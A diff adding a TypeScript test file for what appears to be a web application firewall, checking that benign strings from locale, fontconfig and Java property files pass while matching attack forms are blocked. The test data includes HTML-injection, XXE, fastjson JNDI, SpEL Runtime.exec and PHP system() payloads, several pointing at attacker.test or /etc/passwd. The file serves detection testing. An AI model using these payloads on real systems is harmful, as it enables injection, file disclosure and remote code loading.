@@ -1,0 +1,137 @@
+// Constructs that are attacks only in one of their forms (scripts/probe-docs.ts found the benign ones in
+// glibc locale sources, fontconfig and D-Bus files, JDK properties files). Each benign case passes in every
+// carrier; beside it, the attack form of the same construct, which the same carrier must still block.
+import { beforeAll, describe, expect, it } from "vitest";
+import fc from "fast-check";
+import { loadHarness, type Harness } from "../support/harness.js";
+import { inspect, type Req } from "../support/engine.js";
+
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+const json = (text: string): Req => ({ method: "POST", path: "/api/v1/posts/7/comments", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ body: text, author_id: 1 }) });
+const form = (text: string): Req => ({ method: "POST", path: "/blog/post/comments", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: new URLSearchParams({ author: "Ann", comment: text }).toString() });
+const search = (text: string): Req => ({ method: "GET", path: `/search?q=${encodeURIComponent(text)}&lang=en`, headers: [["host", "svc.local"]] });
+const CARRIERS = [json, form, search];
+
+const blockedBy = (req: Req) => {
+  const v = inspect(h, req);
+  return v.score >= 5 ? v.matches.map((m) => `${m.id}@${m.target}[${m.fragment}]`).join(" ") : "";
+};
+const ids = (text: string) => inspect(h, json(text)).matches.map((m) => m.id);
+
+const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] = [
+  {
+    // 3001: base, meta, link, object, embed and frame act only through attributes (object also through <param>)
+    name: "an element closed with no attribute",
+    benign: [
+      'ö <o-diaeresis>;"<BASE><DIAER>";"<MIN><MIN>";IGNORE % ö',
+      "<LINK> and <META> are head elements: see the chapter on metadata",
+      "Ž <z-caron>;<BASE>;<CAP>;IGNORE",
+      "an empty <embed/> or <frame /> renders nothing",
+      "options <Object> (optional). Returns: <Promise>",
+    ],
+    attacks: [
+      ["<base href=//attacker.test/>", 3001],
+      ["<base/href=//attacker.test/>", 3001],
+      ['<BASE target="_blank">', 3001],
+      ["x <base", 3001], // left open: the page's markup after the value adds attributes
+      ['<meta http-equiv="refresh" content="0;url=//attacker.test">', 3001],
+      ["<link rel=stylesheet href=//attacker.test/x.css>", 3001],
+      ["<embed src=//attacker.test/x.swf>", 3001],
+      ["<object><param name=url value=//attacker.test/page.html>", 3001], // <param> children name the resource
+      ["<object data=//attacker.test/x.svg>", 3001],
+      ["<script>", 3001],
+      ["<style>", 3001],
+    ],
+  },
+  {
+    // 14002: a DOCTYPE whose system id is a catalog name or a DTD beside the document
+    name: "a DOCTYPE that loads nothing an attacker picks",
+    benign: [
+      '<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">\n<fontconfig>\n  <dir>~/.fonts</dir>\n</fontconfig>',
+      '<!DOCTYPE fontconfig SYSTEM "../fonts.dtd">',
+      "<!DOCTYPE book SYSTEM 'docbook/book.dtd'>",
+      '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">',
+      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+    ],
+    attacks: [
+      ['<!DOCTYPE r SYSTEM "http://attacker.test/x.dtd"><r/>', 14002],
+      ['<!DOCTYPE r SYSTEM "//attacker.test/x.dtd">', 14002],
+      ['<!DOCTYPE r SYSTEM "file:///etc/passwd">', 14002],
+      ['<!DOCTYPE r SYSTEM "/usr/share/xml/x.dtd">', 14002],
+      ['<!DOCTYPE r SYSTEM "../../../../etc/passwd">', 14002],
+      ['<!DOCTYPE r SYSTEM "\\\\attacker.test\\share\\x.dtd">', 14002],
+      ['<!DOCTYPE r SYSTEM "urn:x:http://attacker.test/x.dtd">', 14002],
+      ['<!DOCTYPE r SYSTEM "..%2f..%2fetc%2fpasswd">', 14002],
+      ['<!DOCTYPE r SYSTEM "jar:http://attacker.test/a.jar!/x.dtd">', 14002],
+      ['<!DOCTYPE r SYSTEM "local.dtd" [<!ELEMENT r ANY>]>', 14002], // an internal subset redefines what the DTD declares
+      ['<!DOCTYPE r PUBLIC "-//A//DTD X//EN" "http://attacker.test/www.w3.org/x.dtd">', 14002],
+      ['<!DOCTYPE r SYSTEM "http://attacker.test/x.dtd?www.w3.org/">', 14002],
+      ['<!DOCTYPE r PUBLIC "-//A//DTD X//EN" "http://attacker.test/x.dtd">', 14002],
+      ["<!DOCTYPE r SYSTEM http://attacker.test/x.dtd>", 14002],
+    ],
+  },
+  {
+    // 8120/8121: a camelCase word after lower-case segments is a property or member, never a class
+    name: "a Java property key",
+    benign: [
+      "#sun.rmi.transport.tcp.responseTimeout=\\",
+      "#   javax.net.ssl.trustStorePassword=<truststore-password>",
+      "set com.sun.jndi.ldap.connect.pool.maxSize in the JVM options",
+    ],
+    attacks: [
+      ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.test/x"}', 8121],
+      ["T(java.lang.Runtime).getRuntime().exec('id')", 8120],
+      ["java.lang.reflect", 8120], // a package on its own: probes name them so
+      ["com.sun.org.apache", 8121],
+      ["java.lang.runtime.getRuntime", 8120], // an exec class, whatever its case
+    ],
+  },
+  {
+    // 9120/9121: a name, a blank, then two bare words side by side: prose or a C prototype, never PHP
+    name: "an argument list that opens with two bare words",
+    benign: [
+      "Keep the settings in a local file (for example, ~/.config/app.ini) and restart.",
+      "void png_set_tRNS (png_structp png_ptr, png_infop info_ptr, png_bytep trans);",
+      "Any ordering inside the project file (see the next section) is kept.",
+    ],
+    attacks: [
+      ["passthru(cat flag.txt)", 9120], // without the blank it is a payload's shape
+      ["system (new ArrayObject)", 9120], // `new X` is an expression
+      ["file (FILE_NAME . x)", 9120],
+      ["system ($cmd)", 9120],
+      ["<?php file_get_contents (php://input); ?>", 9120],
+    ],
+  },
+];
+
+describe.each(CASES)("$name", ({ benign, attacks }) => {
+  it.each(benign)("passes: %s", (text) => {
+    for (const carrier of CARRIERS) expect(blockedBy(carrier(text))).toBe("");
+  });
+  it.each(attacks)("blocks: %s", (text, id) => {
+    expect(ids(text)).toContain(id);
+    for (const carrier of CARRIERS) expect(blockedBy(carrier(text))).not.toBe("");
+  });
+});
+
+describe("what the exemptions leave open", () => {
+  it("a DTD named by a URL, a scheme or an absolute path still scores, whatever its path", () => {
+    const prefix = fc.constantFrom("http://", "HTTPS://", "ftp://", "file:///", "//", "/", "\\\\", "jar:", "php://", "netdoc:", "urn:x:http://");
+    fc.assert(fc.property(prefix, fc.stringMatching(/^[a-z0-9._\/-]{0,30}$/), (pre, tail) => {
+      fc.pre(!tail.startsWith("www.w3.org/"));
+      expect(ids(`<!DOCTYPE r SYSTEM "${pre}${tail}.dtd">`)).toContain(14002);
+    }), { numRuns: 200 });
+  });
+
+  it("an attribute-only element with any attribute still scores", () => {
+    const tag = fc.constantFrom("base", "META", "link", "object", "embed", "frame");
+    const sep = fc.constantFrom(" ", "/", "\n", "  /");
+    fc.assert(fc.property(tag, sep, fc.stringMatching(/^[a-z][a-z-]{0,12}$/), (name, s, attr) => {
+      expect(ids(`<${name}${s}${attr}=x>`)).toContain(3001);
+    }), { numRuns: 200 });
+  });
+});
